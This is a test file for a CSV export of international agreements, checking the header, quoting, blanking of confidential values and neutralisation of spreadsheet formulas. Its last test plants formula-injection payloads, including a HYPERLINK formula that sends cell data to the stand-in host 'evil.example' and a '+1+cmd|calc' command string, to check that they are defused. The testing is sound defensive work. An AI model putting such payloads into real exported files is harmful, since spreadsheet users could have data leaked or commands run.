import { parse } from 'csv-parse/sync';
import { AGREEMENT_COLUMNS, renderAgreementsCsv } from './agreements-csv.renderer.js';
import { agreementsFixture } from './testing/programme-export.fixture.js';

describe(renderAgreementsCsv.name, () => {
  it('starts with a UTF-8 byte order mark and a header row, with CRLF line ends', () => {
    const csv = renderAgreementsCsv(agreementsFixture(false));
    expect(csv.startsWith('\uFEFFslug,title,type,status,parties,track,signed_on,value,currency,confidential,session\r\n')).toBe(true);
  });

  it('quotes commas, quotes and new lines so a parser reads the same values back', () => {
    const rows = parse(renderAgreementsCsv(agreementsFixture(true)), { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([...AGREEMENT_COLUMNS]);
    expect(rows).toEqual([
      {
        slug: 'ningxia-samarkand',
        title: 'Sister regions: Ningxia and Samarkand, "friendship" agreement',
        type: 'SISTER_CITY',
        status: 'SIGNED',
        parties: 'Ningxia Hui Autonomous Region; Samarkand Region',
        track: 'Culture',
        signed_on: '2024-10-26',
        value: '',
        currency: '',
        confidential: 'false',
        session: 'Signing ceremony',
      },
      {
        slug: 'solar-park',
        title: '光伏园区\nphase one',
        type: 'INVESTMENT',
        status: 'IN_IMPLEMENTATION',
        parties: 'Kyrgyzstan; China',
        track: '',
        signed_on: '',
        value: '1570000000.00',
        currency: 'USD',
        confidential: 'true',
        session: '',
      },
    ]);
  });

  it('writes an empty value for a confidential row a visitor reads', () => {
    const rows = parse(renderAgreementsCsv(agreementsFixture(false)), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[1]).toMatchObject({ slug: 'solar-park', value: '', currency: '', confidential: 'true' });
  });

  it('neutralises every cell a spreadsheet would run as a formula, and leaves the rest as they are', () => {
    const model = agreementsFixture(true);
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const [first, second] = model.agreements;
    if (!first || !second) throw new Error('the fixture has two agreements');
    const planted = {
      ...model,
      agreements: [
        { ...first, parties: [hostile, 'Samarkand Region'], title: '+1+cmd|calc', track: '-2+3', session: '@SUM(1+1)' },
        { ...second, title: '\t=1+1', parties: ['\r=1+1', 'China'], session: 'Signing = ceremony' },
      ],
    };
    const rows = parse(renderAgreementsCsv(planted), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({ parties: `'${hostile}; Samarkand Region`, title: "'+1+cmd|calc", track: "'-2+3", session: "'@SUM(1+1)" });
    expect(rows[1]).toMatchObject({ title: "'\t=1+1", parties: "'\r=1+1; China", session: 'Signing = ceremony', value: '1570000000.00' });
    // Nothing else in the file starts with a formula character.
    for (const row of rows) for (const cell of Object.values(row)) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
  });
});
